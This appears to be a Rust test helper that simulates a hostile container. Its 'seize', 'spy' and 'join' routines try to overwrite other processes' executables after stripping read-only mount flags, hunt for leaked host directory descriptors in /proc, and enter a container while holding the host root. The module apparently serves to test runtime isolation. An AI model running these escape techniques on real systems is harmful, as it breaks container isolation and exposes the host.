//! What a hostile container does all day.

use super::Outcome;
use std::collections::{BTreeMap, BTreeSet};
use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::{AsRawFd, FromRawFd};
use std::os::unix::fs::MetadataExt;
use std::os::unix::process::CommandExt;
use std::process::Command;

fn say(line: &str) {
    println!("{line}");
    let _ = std::io::stdout().flush();
}

fn others() -> Vec<i32> {
    let own = std::process::id() as i32;
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).filter(|pid| *pid != own).collect()
}

/// Without any right to it: std drops this flag where the C library is musl.
fn open_path(path: &str) -> io::Result<File> {
    let path = CString::new(path)?;
    // SAFETY: a terminated string that outlives the call.
    let fd = unsafe { libc::open(path.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: nobody else has this descriptor.
    Ok(unsafe { File::from_raw_fd(fd) })
}

/// struct mount_attr that takes MOUNT_ATTR_RDONLY away.
const WRITABLE: [u64; 4] = [0, 1, 0, 0];

/// Takes the read-only flag off the mount of a held file, off a copy of it and by way of a bind; the first that works.
fn unseal(file: &File) -> Option<&'static str> {
    let (empty, path) = (c"".as_ptr(), CString::new(format!("/proc/self/fd/{}", file.as_raw_fd())).ok()?);
    // SAFETY: terminated strings and a live structure of the size that is said.
    let clear = |fd: i32| unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            fd,
            empty,
            libc::AT_EMPTY_PATH,
            WRITABLE.as_ptr(),
            size_of_val(&WRITABLE),
        ) == 0
    };
    let flags = 1 | libc::AT_EMPTY_PATH;
    // SAFETY: a terminated string; OPEN_TREE_CLONE is 1.
    let copy = unsafe { libc::syscall(libc::SYS_open_tree, file.as_raw_fd(), empty, flags) } as i32;
    if copy >= 0 && clear(copy) {
        return Some("a copy");
    }
    let (here, none) = (c"/tmp/unsealed", std::ptr::null());
    drop(File::create("/tmp/unsealed"));
    let bind = libc::MS_BIND | libc::MS_REMOUNT;
    // SAFETY: terminated strings, and null where the kernel takes null.
    let (bound, again, mounted) = unsafe {
        (
            libc::mount(path.as_ptr(), here.as_ptr(), none, libc::MS_BIND, none.cast()),
            libc::mount(none, here.as_ptr(), none, bind, none.cast()),
            libc::mount(none, path.as_ptr(), none, bind, none.cast()),
        )
    };
    match () {
        () if bound == 0 && again == 0 => Some("a bind"),
        () if mounted == 0 => Some("a remount"),
        () if clear(file.as_raw_fd()) => Some("the flag"),
        () => None,
    }
}

/// Where a process shows its binary: as what it executes, and to who may as well as what it has mapped.
fn images(pid: i32, privileged: bool) -> Vec<String> {
    let mapped = fs::read_dir(format!("/proc/{pid}/map_files")).into_iter().flatten().flatten();
    let mapped = mapped.filter(|_| privileged).filter_map(|entry| entry.path().to_str().map(str::to_owned));
    std::iter::once(format!("/proc/{pid}/exe")).chain(mapped).collect()
}

/// Opens for writing what is behind a held descriptor, until the kernel says something else than "text file busy".
pub fn seize(args: &[String]) -> Outcome {
    let privileged = args.first().is_some_and(|word| word == "unseal");
    let own = fs::metadata("/proc/self/exe").map_err(|error| error.to_string())?;
    let mut held: BTreeMap<String, File> = BTreeMap::new();
    say("ready");
    loop {
        for path in others().into_iter().flat_map(|pid| images(pid, privileged)) {
            let Ok(file) = open_path(&path) else { continue };
            let Ok(meta) = file.metadata() else { continue };
            let foreign = meta.is_file() && (meta.dev(), meta.ino()) != (own.dev(), own.ino());
            if !foreign || held.contains_key(&path) {
                continue;
            }
            if let Some(way) = Some(()).filter(|()| privileged).and_then(|()| unseal(&file)) {
                say(&format!("unsealed by {way}"));
            }
            held.insert(path, file);
            say("held");
        }
        held.retain(|_, file| {
            let again = OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", file.as_raw_fd()));
            match again.map_err(|error| error.raw_os_error()) {
                Ok(_) => say("open"),
                Err(Some(libc::ETXTBSY)) => return true,
                Err(errno) => say(&crate::syscalls::errno_name(errno.unwrap_or(0))),
            }
            false
        });
    }
}

/// Follows the links of other processes' descriptors, roots and working directories.
pub fn spy(_: &[String]) -> Outcome {
    let own: Vec<(u64, u64)> = ["/", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"]
        .iter()
        .filter_map(|path| fs::metadata(path).ok())
        .map(|meta| (meta.dev(), meta.ino()))
        .collect();
    let mut seen = BTreeSet::new();
    say("ready");
    loop {
        for pid in others() {
            if seen.insert(pid) {
                say("seen");
            }
            for link in ["root".to_owned(), "cwd".to_owned()].into_iter().chain((0..32).map(|fd| format!("fd/{fd}"))) {
                let path = format!("/proc/{pid}/{link}");
                let Ok(meta) = fs::metadata(&path) else { continue };
                if meta.is_dir() && !own.contains(&(meta.dev(), meta.ino())) {
                    let target = fs::read_link(&path).unwrap_or_default();
                    say(&format!("leak {link} {}", target.display()));
                }
            }
        }
    }
}

/// Enters a container as one should not: with a descriptor of the host's root, from a binary that can be written.
pub fn join(args: &[String]) -> Outcome {
    let said = |what: &'static str| move |error: io::Error| format!("{what}: {error}");
    let pid: i32 = super::parsed(args, 0, "PID")?;
    let root = open_path("/").map_err(said("/"))?;
    // SAFETY: plain numbers.
    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) } as i32;
    // SAFETY: as above.
    if pidfd < 0 || unsafe { libc::setns(pidfd, libc::CLONE_NEWNS | libc::CLONE_NEWPID) } < 0 {
        return Err(format!("setns: {}", io::Error::last_os_error()));
    }
    // Whoever trusts the /proc that is there writes what the container likes to see written.
    let _ = fs::write("/proc/self/comm", "careless");
    let mut program = Command::new(super::arg(args, 1, "PATH")?);
    let prepare = move || {
        let (header, none) = ([0x2008_0522_u32, 0], [0_u32; 6]);
        // SAFETY: a header of version 3 and two elements of three words; plain numbers.
        let failed = unsafe {
            libc::syscall(libc::SYS_capset, header.as_ptr(), none.as_ptr()) < 0 || libc::dup2(root.as_raw_fd(), 7) < 0
        };
        if failed { Err(io::Error::last_os_error()) } else { Ok(()) }
    };
    // SAFETY: only system calls between fork and exec.
    unsafe { program.pre_exec(prepare) };
    let status = program.args(&args[2..]).status().map_err(said("exec"))?;
    std::process::exit(status.code().unwrap_or(1))
}
